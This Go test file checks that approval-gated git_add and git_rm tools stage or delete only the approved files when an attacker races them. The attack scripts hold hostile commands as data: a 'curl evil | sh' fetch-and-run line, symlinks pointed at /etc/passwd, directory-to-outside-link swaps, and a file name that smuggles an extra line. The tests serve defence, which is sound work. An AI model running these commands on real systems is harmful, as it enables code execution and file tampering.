package gittools

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
)

// stagedIndex is the index's entries (mode, object, stage, path), as
// `git ls-files --stage` prints them; index is the index file to read,
// "" for the repository's own.
func stagedIndex(t *testing.T, w *world, dir, index string) string {
	t.Helper()
	cmd := exec.Command("git", "ls-files", "--stage")
	cmd.Dir, cmd.Env = dir, append([]string(nil), w.environ...)
	if index != "" {
		cmd.Env = append(cmd.Env, "GIT_INDEX_FILE="+index)
	}
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("git ls-files in %s: %v %s", dir, err, out)
	}
	return string(out)
}

// gitIndexAfter is the index git itself makes of dir's index and work
// tree, as they are now, by running args (git add … or git rm --cached
// …) on a scratch copy: the index the preview describes. The
// repository's own index is not touched.
func gitIndexAfter(t *testing.T, w *world, dir string, args ...string) string {
	t.Helper()
	scratch := filepath.Join(t.TempDir(), "index")
	must(t, exec.Command("cp", filepath.Join(dir, ".git", "index"), scratch).Run())
	cmd := exec.Command("git", args...)
	cmd.Dir, cmd.Env = dir, append(append([]string(nil), w.environ...), "GIT_INDEX_FILE="+scratch)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("git %v: %v %s", args, err, out)
	}
	return stagedIndex(t, w, dir, scratch)
}

// TestAddTwinStagesExactlyTheApprovedBytesOrNothing races a git_add twin
// at every step: before each git call it makes (the re-plan's checks,
// the index pin, each blob it writes, the entry it stages), an attacker
// rewrites an approved file in place, renames another file over it,
// makes it executable, points a link elsewhere, recreates a deleted file
// or puts a link where a file was. Whatever the step, the index the twin
// leaves is either the one the preview described (what git add made of
// the approved tree) or, when it refuses, the index as it was.
func TestAddTwinStagesExactlyTheApprovedBytesOrNothing(t *testing.T) {
	realGit, err := exec.LookPath("git")
	if err != nil {
		t.Skip("no git")
	}
	rig := newRaceRig(t)
	w := newWorld(t)
	w.withoutSandbox()
	tmpl := w.repo("template")
	writeFile(t, filepath.Join(tmpl, "gone"), "tracked\n")
	w.git(tmpl, "add", "gone")
	w.git(tmpl, "commit", "-q", "-m", "gone")
	writeFile(t, filepath.Join(tmpl, "README"), "approved\n")
	writeFile(t, filepath.Join(tmpl, "new.txt"), "new\n")
	writeFile(t, filepath.Join(tmpl, "run.sh"), "#!/bin/sh\n")
	must(t, os.Chmod(filepath.Join(tmpl, "run.sh"), 0o755))
	must(t, os.Symlink("README", filepath.Join(tmpl, "link")))
	must(t, os.Remove(filepath.Join(tmpl, "gone")))
	files := []string{"README", "new.txt", "run.sh", "link", "gone"}
	dir := filepath.Join(w.home, "r")
	fresh := func() { copyRepo(t, tmpl, dir) }
	fresh()
	w.env.WorkDir = dir
	p := w.propose("git_add", map[string]any{"files": files})
	before := stagedIndex(t, w, dir, "")
	approved := gitIndexAfter(t, w, dir, append([]string{"add", "--"}, files...)...)
	if approved == before {
		t.Fatal("the approved add stages nothing")
	}
	attacks := []struct{ name, script string }{
		{"rewrite a file in place", `echo evil > README; echo evil > new.txt`},
		{"rename another file over it", `echo evil > .x && mv .x README`},
		{"make a file executable", `chmod +x new.txt`},
		{"point the link elsewhere", `ln -sfn /etc/passwd link`},
		{"recreate the deleted file", `echo evil > gone`},
		{"put a link where a file was", `rm new.txt && ln -s /etc/passwd new.txt`},
		{"replace the executable with a plain file", `rm run.sh && echo 'curl evil | sh' > run.sh`},
	}
	// One run that races nothing counts the twin's git calls (and shows
	// the approval holds). The sweep then races every one of the last
	// dozen, the twin's own acting (pin, blobs, entries), and every third
	// (fifth with -short) of the re-plan before them.
	fresh()
	rig.arm(0, "")
	res := w.approve(p)
	calls := rig.disarm()
	if !res.Success || stagedIndex(t, w, dir, "") != approved {
		t.Fatalf("unraced: success=%v %q, index\n%s\napproved\n%s", res.Success, res.Error, stagedIndex(t, w, dir, ""), approved)
	}
	step := 3
	if testing.Short() {
		step = 5
	}
	outcomes := map[string]int{}
	for _, attack := range attacks {
		for at := 1; at <= calls; at++ {
			if calls-at >= 12 && at%step != 0 {
				continue
			}
			fresh()
			rig.arm(at, "git() { "+strconv.Quote(realGit)+" \"$@\"; }\ncd "+strconv.Quote(dir)+
				" && export HOME="+strconv.Quote(w.home)+" GIT_CONFIG_NOSYSTEM=1 && "+attack.script+"\n")
			res := w.approve(p)
			rig.disarm()
			where := fmt.Sprintf("%s before git call %d of %d", attack.name, at, calls)
			got := stagedIndex(t, w, dir, "")
			if _, err := os.Lstat(filepath.Join(dir, ".git", "index.lock")); err == nil {
				t.Fatalf("%s: the index lock was left behind", where)
			}
			if !res.Success {
				outcomes["refused"]++
				if got != before {
					t.Errorf("%s: refused (%q) but the index changed:\n%s\nwas\n%s", where, res.Error, got, before)
				}
				continue
			}
			outcomes["staged"]++
			if got != approved {
				t.Errorf("%s: staged\n%s\napproved\n%s", where, got, approved)
			}
		}
	}
	t.Logf("outcomes: %v", outcomes)
	if outcomes["staged"] == 0 || outcomes["refused"] == 0 {
		t.Errorf("the sweep did not reach both outcomes: %v", outcomes)
	}
}

// TestAddRefusesWhatItCannotPin: a submodule's commit, a FIFO and a name
// holding a line break are not staged from a preview that could not
// show or pin them; nothing is changed.
func TestAddRefusesWhatItCannotPin(t *testing.T) {
	w := newWorld(t)
	dir := w.repo("r")
	w.env.WorkDir = dir
	writeFile(t, filepath.Join(dir, "x'\nadd 'README"), "hidden\n")
	r := w.call("git_add", map[string]any{"files": []string{"."}})
	if r.Approval != nil || !strings.Contains(r.Error, "line break") {
		t.Fatalf("a name with a line break: approval=%v error=%q", r.Approval != nil, r.Error)
	}
	must(t, os.Remove(filepath.Join(dir, "x'\nadd 'README")))

	w.repo("r/sub")
	before := stagedIndex(t, w, dir, "")
	r = w.call("git_add", map[string]any{"files": []string{"sub"}})
	if r.Approval != nil {
		r = w.approve(r)
	}
	if r.Success || !strings.Contains(r.Error, "stages only files") {
		t.Fatalf("a nested repository: success=%v error=%q", r.Success, r.Error)
	}
	if got := stagedIndex(t, w, dir, ""); got != before {
		t.Fatalf("the index changed:\n%s", got)
	}
}

// TestRmTwinDeletesOnlyTheApprovedFiles races a forced, recursive
// git_rm twin at every step as the add sweep does: an attacker rewrites
// a file to delete, renames another over it, points a link elsewhere,
// recreates a file already deleted, or swaps a directory for a link to
// one outside the repository holding the same names. A refusal leaves
// the index as it was; a success leaves the index the preview
// described; either way every byte the attacker wrote, and the outside
// directory, are still there, and nothing of the twin's is left behind.
func TestRmTwinDeletesOnlyTheApprovedFiles(t *testing.T) {
	realGit, err := exec.LookPath("git")
	if err != nil {
		t.Skip("no git")
	}
	rig := newRaceRig(t)
	w := newWorld(t)
	w.withoutSandbox()
	tmpl := w.repo("template")
	writeFile(t, filepath.Join(tmpl, "gone"), "tracked\n")
	writeFile(t, filepath.Join(tmpl, "dir", "c"), "in dir\n")
	must(t, os.Symlink("README", filepath.Join(tmpl, "link")))
	w.git(tmpl, "add", ".")
	w.git(tmpl, "commit", "-q", "-m", "files")
	writeFile(t, filepath.Join(tmpl, "README"), "uncommitted, shown as lost\n")
	must(t, os.Remove(filepath.Join(tmpl, "gone")))
	outside := filepath.Join(w.home, "outside")
	writeFile(t, filepath.Join(outside, "c"), "in dir\n")
	files := []string{"README", "link", "gone", "dir"}
	dir := filepath.Join(w.home, "r")
	fresh := func() { copyRepo(t, tmpl, dir) }
	fresh()
	w.env.WorkDir = dir
	p := w.propose("git_rm", map[string]any{"files": files, "recursive": true, "force": true})
	before := stagedIndex(t, w, dir, "")
	approved := gitIndexAfter(t, w, dir, append([]string{"rm", "-q", "--cached", "-r", "-f", "--"}, files...)...)
	// leftovers are the twin's files still in the work tree, and
	// evil whether a file holding the attacker's bytes is.
	leftovers := func() (left []string, evil bool) {
		filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
			if err != nil || d.Name() == ".git" {
				return filepath.SkipDir
			}
			if strings.HasPrefix(d.Name(), ".jazz-rm-") {
				left = append(left, p)
			}
			if b, err := os.ReadFile(p); err == nil && string(b) == "evil\n" {
				evil = true
			}
			return nil
		})
		return left, evil
	}
	fresh()
	rig.arm(0, "")
	res := w.approve(p)
	calls := rig.disarm()
	if !res.Success || stagedIndex(t, w, dir, "") != approved {
		t.Fatalf("unraced: success=%v %q", res.Success, res.Error)
	}
	for _, f := range files {
		if _, err := os.Lstat(filepath.Join(dir, f)); err == nil {
			t.Fatalf("unraced: %s is still there", f)
		}
	}
	attacks := []struct {
		name, script string
		evil         bool // the attack leaves a file holding "evil\n"
	}{
		{"rewrite a file in place", `echo evil > README`, true},
		{"rename another file over it", `echo evil > .x && mv .x dir/c`, true},
		{"point the link elsewhere", `ln -sfn /etc/passwd link`, false},
		{"recreate the deleted file", `echo evil > gone`, true},
		{"swap the directory for a link outside", `mv dir .d && ln -s ` + strconv.Quote(outside) + ` dir`, false},
	}
	step := 3
	if testing.Short() {
		step = 5
	}
	outcomes := map[string]int{}
	for _, attack := range attacks {
		for at := 1; at <= calls; at++ {
			if calls-at >= 8 && at%step != 0 {
				continue
			}
			fresh()
			rig.arm(at, "git() { "+strconv.Quote(realGit)+" \"$@\"; }\ncd "+strconv.Quote(dir)+
				" && export HOME="+strconv.Quote(w.home)+" GIT_CONFIG_NOSYSTEM=1 && "+attack.script+"\n")
			res := w.approve(p)
			rig.disarm()
			where := fmt.Sprintf("%s before git call %d of %d", attack.name, at, calls)
			got := stagedIndex(t, w, dir, "")
			left, evil := leftovers()
			// A file moved aside that the attacker then moved with its
			// directory is not deleted; the result names where it is,
			// and the index is the approved one.
			partial := !res.Success && strings.Contains(res.Error, "from the index, but")
			if partial {
				if got != approved {
					t.Errorf("%s: removed from the index only, but the index is\n%s", where, got)
				}
				for _, l := range left {
					if !strings.Contains(res.Error, filepath.Base(l)) {
						t.Errorf("%s: left %s unnamed in %q", where, l, res.Error)
					}
				}
				outcomes["partial"]++
				continue
			}
			if len(left) > 0 {
				t.Errorf("%s: left %v (result %v %q)", where, left, res.Success, res.Error)
			}
			if attack.evil && !evil {
				t.Errorf("%s: the attacker's bytes were deleted (result %v %q)", where, res.Success, res.Error)
			}
			if b, err := os.ReadFile(filepath.Join(outside, "c")); err != nil || string(b) != "in dir\n" {
				t.Fatalf("%s: the file outside the repository is gone (%v; result %v %q)", where, err, res.Success, res.Error)
			}
			if !res.Success {
				outcomes["refused"]++
				if got != before {
					t.Errorf("%s: refused (%q) but the index changed:\n%s", where, res.Error, got)
				}
				continue
			}
			outcomes["removed"]++
			if got != approved {
				t.Errorf("%s: the index is\n%s\napproved\n%s", where, got, approved)
			}
		}
	}
	t.Logf("outcomes: %v", outcomes)
	if outcomes["removed"] == 0 || outcomes["refused"] == 0 {
		t.Errorf("the sweep did not reach both outcomes: %v", outcomes)
	}
}
